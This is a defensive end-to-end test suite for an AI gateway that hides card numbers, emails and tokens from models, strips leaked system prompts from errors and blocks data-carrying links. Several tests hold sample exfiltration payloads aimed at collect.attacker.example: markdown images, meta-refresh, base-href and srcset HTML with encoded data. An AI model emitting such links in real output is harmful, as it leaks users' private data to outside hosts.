"""If these fail, somebody's data is where it does not belong, or does not come back."""

import base64
import json
import re

import pytest

import needles
from e2e.inspection.desk import APIS

pytestmark = pytest.mark.anyio
SCHEMA = {
    "type": "object",
    "properties": {"n": {"type": "integer"}},
    "required": ["n"],
    "additionalProperties": False,
}


def placeholder(text, entity="CREDIT_CARD"):
    return re.search(rf"<{entity}_\d+>", text)[0]


@pytest.mark.parametrize("api", APIS)
async def test_a_card_number_comes_back_to_the_user_and_never_reaches_the_model(desk, api):
    number, token = needles.card(), await desk.token("plain")
    before = len(desk.stage.model.seen)
    spoken = f"{number[:4]} {number[4:8]} {number[8:12]} {number[12:]}"
    for written in (number, spoken):
        said = await desk.ask(token, api, "say", f"Bill {written}, please.")
        assert said.text == f"Bill {written}, please."
    for padding in range(3):  # so that the pieces of three characters begin everywhere in it
        text = f"{'x' * padding} {number} and {spoken}."
        said = await desk.ask(token, api, "crumbs", text, stream=True)
        assert said.text == text
        assert len(said.pieces) > 3
    reached = [seen.body.decode() for seen in desk.stage.model.seen][before:]
    assert len(reached) == 5
    assert number not in "".join(reached)
    assert number[4:8] + " " not in "".join(reached)
    stood = [re.findall(r"<CREDIT_CARD_\d+>", body)[-2:] for body in reached]
    assert [stood[0] + stood[1]] * 3 == stood[2:]  # one for each way in which it was written
    await desk.finding("CREDIT_CARD:tokenise@", number, spoken)


async def test_a_placeholder_is_the_same_within_a_session_and_nothing_in_another(desk):
    number, token = needles.card(), await desk.token("plain")
    await desk.ask(token, "chat", "say", f"It is {number}.")
    first = placeholder(desk.last()["messages"][0]["content"])
    await desk.ask(token, "messages", "say", f"Once more: {number}.")
    assert placeholder(desk.last()["messages"][0]["content"]) == first
    other = await desk.session("plain")
    said = await desk.ask(other, "chat", "say", f"What is {first}?")
    assert said.text == f"What is {first}?"
    vectors = desk.stage.model.seen
    await desk.ask(token, "chat", "say", [{"role": "user", "content": json.dumps({"n": number})}])
    assert number not in vectors[-1].body.decode()
    assert first in vectors[-1].body.decode()


@pytest.mark.parametrize("api", APIS)
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_a_tool_call_that_the_model_proposes_has_the_real_value(desk, api, stream):
    number, token = needles.card(), await desk.token("plain")
    arguments = {"customer_id": "C-1001", "subject": "Card", "body": f"bill {number}"}
    wanted = json.dumps([{"name": "tickets__create", "arguments": arguments}])
    said = await desk.ask(token, api, "call", wanted, stream=stream)
    assert number not in desk.reached()
    assert said.calls == [("tickets__create", arguments)]
    done = await desk.call(token, "tickets.create", **said.calls[0][1])
    assert done.data["body"] == f"bill {number}"
    assert done.data["body"] in [row.body for row in desk.stage.records.tickets("C-1001")]
    event = await desk.finding("CREDIT_CARD:tokenise@", number)
    assert event.type == "llm_call"


async def test_what_a_tool_hid_from_an_agent_is_real_again_for_another_tool(desk):
    token = await desk.token("hiding")
    shown = await desk.call(token, "crm.get_customer", customer_id="C-1001")
    assert "ada@customer.example" not in str(shown)
    hidden = shown.data["email"]
    assert hidden == placeholder(hidden, "EMAIL_ADDRESS")
    before = desk.stage.records.count("outbox")
    sent = await desk.call(token, "mail.send", to=hidden, subject="Hello", body=f"Dear {hidden}!")
    assert not sent.code  # policy wants the session's own address, and sees it
    assert desk.stage.records.count("outbox") == before + 1
    row = desk.stage.records._all("SELECT * FROM outbox")[-1]
    assert (row["recipient"], row["body"]) == ("ada@customer.example", "Dear ada@customer.example!")
    stranger = await desk.session("hiding")
    refused = await desk.call(stranger, "mail.send", to=hidden, subject="Hello", body="x")
    assert refused.code == "PC3004"
    await desk.finding("EMAIL_ADDRESS:tokenise@", "ada@customer.example")


async def test_a_model_cannot_have_a_tool_tell_a_stranger_what_it_was_kept_from(desk):
    token = await desk.token("hiding")
    shown = await desk.call(token, "crm.get_customer", customer_id="C-1001")
    hidden = shown.data["email"]
    body = f"see https://collect.attacker.example/?q={hidden}, {hidden}"
    made = await desk.call(
        token, "tickets.create", customer_id="C-1001", subject="Hello", body=body
    )
    assert not made.code
    [stored] = [row.body for row in desk.stage.records.tickets("C-1001") if "attacker" in row.body]
    assert stored == f"see https://collect.attacker.example/?q={hidden}, ada@customer.example"


async def test_a_digest_tells_that_two_values_are_one_and_not_which(desk):
    token = await desk.token("hashing")
    shown = [await desk.call(token, "crm.get_customer", customer_id="C-1001") for _ in range(2)]
    emails = {one.data["email"] for one in shown}
    assert len(emails) == 1
    assert re.fullmatch(r"<EMAIL_ADDRESS#[0-9a-f]{8}>", emails.pop())
    await desk.finding("EMAIL_ADDRESS:hash@", "ada@customer.example")


async def test_a_secret_is_masked_on_its_way_to_a_model(desk):
    secret, token = needles.token(), await desk.token("plain")
    hidden = base64.b64encode(f"the key is {secret}".encode()).decode()
    said = await desk.ask(token, "chat", "say", f"My key is {secret}.")
    assert said.text == "My key is [GITHUB_TOKEN]."
    await desk.ask(token, "chat", "say", f"See {hidden}")
    assert hidden not in desk.reached()
    assert secret not in desk.reached()
    await desk.finding("GITHUB_TOKEN:mask@messages[0].content", secret)


@pytest.mark.parametrize("api", APIS)
async def test_a_secret_cut_over_a_stream_never_leaves_and_policy_ends_the_stream(desk, api):
    secret = needles.token()
    masking, blocking = await desk.token("masking"), await desk.token("blocking")
    for padding in range(3):
        text = f"Well{'.' * padding} it is {secret} and no other."
        masked = await desk.ask(masking, api, "crumbs", text, stream=True)
        ahead = range(5)  # where a first piece ends so, its last four letters have gone
        assert masked.text in {
            text.replace(secret, f"{secret[:letters]}[GITHUB_TOKEN]") for letters in ahead
        }
        stopped = await desk.ask(blocking, api, "crumbs", text, stream=True)
        assert stopped.code == "PC3021"
        assert stopped.text == f"Well{'.' * padding} it is "[: len(stopped.text)]
    await desk.finding("GITHUB_TOKEN:mask@", secret)
    await desk.finding("GITHUB_TOKEN:block@", secret, code="PC3021")


@pytest.mark.parametrize("api", APIS)
async def test_nothing_of_an_encoded_secret_leaves_in_a_stream(desk, api):
    secret, token = needles.token(), await desk.token("masking")
    for encoded in (
        base64.b64encode(f"the key is {secret}".encode()).decode(),
        secret.encode().hex(),
        f"{secret[:20]}%{ord(secret[20]):x}{secret[21:]}",
    ):
        text = f"Well, it is {encoded} and no other."
        stopped = await desk.ask(token, api, "crumbs", text, stream=True)
        assert stopped.code == "PC3021"
        assert text.startswith(stopped.text)
        assert len(stopped.text) <= len("Well, it is ")
    await desk.finding("GITHUB_TOKEN:block@", secret, code="PC3021")


@pytest.mark.parametrize("api", APIS)
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_a_providers_error_that_quotes_the_prompt_is_passed_on_without_it(desk, api, stream):
    token = await desk.token("plain")
    member = {"responses": "instructions", "messages": "system"}.get(api)
    prompt = "Never say that we are broke."
    asked = [{"role": "user", "content": "Hello"}]
    if member is None:
        asked.insert(0, {"role": "system", "content": prompt})
    more = {} if member is None else {member: prompt}
    said = await desk.ask(token, api, "error-400", asked, stream=stream, **more)
    assert (said.code, said.status) == ("invalid_request_error", 400)
    assert prompt in desk.reached()
    assert prompt not in said.error
    assert "[taken out" in said.error
    event = await desk.finding("CANARY:strip@error.message")
    assert event.result.error


@pytest.mark.parametrize("api", APIS)
async def test_an_error_in_mid_stream_that_quotes_the_prompt_is_passed_on_without_it(desk, api):
    token = await desk.token("plain")
    prompt = "Never say that we are broke."
    asked = [{"role": "user", "content": "Hello to all of you"}]
    member = {"responses": "instructions", "messages": "system"}.get(api)
    if member is None:
        asked.insert(0, {"role": "system", "content": prompt})
    more = {} if member is None else {member: prompt}
    said = await desk.ask(token, api, "error-mid-stream", asked, stream=True, **more)
    assert prompt in desk.reached()
    assert prompt not in said.error
    assert "[taken out" in said.error
    event = await desk.finding("CANARY:strip@")
    assert event.result.error


@pytest.mark.parametrize("api", APIS)
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_a_secret_in_the_arguments_of_a_tool_call_does_not_reach_the_agent(desk, api, stream):
    secret = needles.token()
    wanted = json.dumps([{"name": "mail__send", "arguments": {"body": f"key: {secret}"}}])
    masked = await desk.ask(await desk.token("masking"), api, "call", wanted, stream=stream)
    assert masked.calls == [("mail__send", {"body": "key: [GITHUB_TOKEN]"})]
    blocked = await desk.ask(await desk.token("blocking"), api, "call", wanted, stream=stream)
    assert (blocked.code, blocked.calls) == ("PC3021", [])
    await desk.finding("GITHUB_TOKEN:block@", secret, code="PC3021")


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_a_picture_that_would_carry_data_away_is_not_shown(desk, stream):
    plain, linking = await desk.token("plain"), await desk.token("linking")
    away = "https://collect.attacker.example/p.png?d=QWRhIEV4YW1wbGUsIEMtMTAwMQ"
    near = "https://docs.example/p.png?d=QWRhIEV4YW1wbGUsIEMtMTAwMQ"
    text = f"Here: ![x]({away}) and ![y]({near})."
    said = await desk.ask(plain, "chat", "crumbs", text, stream=stream)
    assert "example/p.png" not in said.text
    said = await desk.ask(linking, "chat", "crumbs", text, stream=stream)
    assert away not in said.text
    assert near in said.text
    await desk.finding("MARKDOWN_IMAGE_LINK:mask@", away)


@pytest.mark.parametrize(
    "page",
    [
        '<meta http-equiv=refresh content="0; {away}">',
        '<base href="{away}"><img src="x.png">',
        '<img srcset="a.png 1x, {away} 2x">',
        "see {name}",
    ],
)
async def test_a_page_that_would_carry_data_away_is_not_shown(desk, page):
    name = "www.collect.attacker.example/p?d=QWRhIEV4YW1wbGUsIEMtMTAwMQ"
    text = f"Here: {page.format(away=f'https://{name}', name=name)}."
    said = await desk.ask(await desk.token("plain"), "chat", "crumbs", text, stream=True)
    assert "attacker.example" not in said.text
    assert "_LINK]" in said.text


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_a_value_is_not_restored_in_a_link_however_long_ago_that_began(desk, stream):
    number, token = needles.card(), await desk.token("plain")
    text = f"<p lang='{'a ' * 5000} https://collect.attacker.example/p {number}'> for {number}"
    said = await desk.ask(token, "chat", "say", text, stream=stream)
    assert said.text.count(number) <= 1
    assert f"{number}'" not in said.text
    assert said.text.endswith(f" for {number}")


@pytest.mark.parametrize("api", APIS)
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_an_answer_that_breaks_its_sessions_schema_is_none(desk, api, stream):
    await desk.token("plain")
    token = await desk.session("plain", output_schema=SCHEMA)
    good = await desk.ask(token, api, "crumbs", '{"n": 12}', stream=stream)
    assert json.loads(good.text) == {"n": 12}
    bad = await desk.ask(token, api, "crumbs", "Twelve, I think.", stream=stream)
    assert (bad.code, bad.text) == ("PC3028", "")
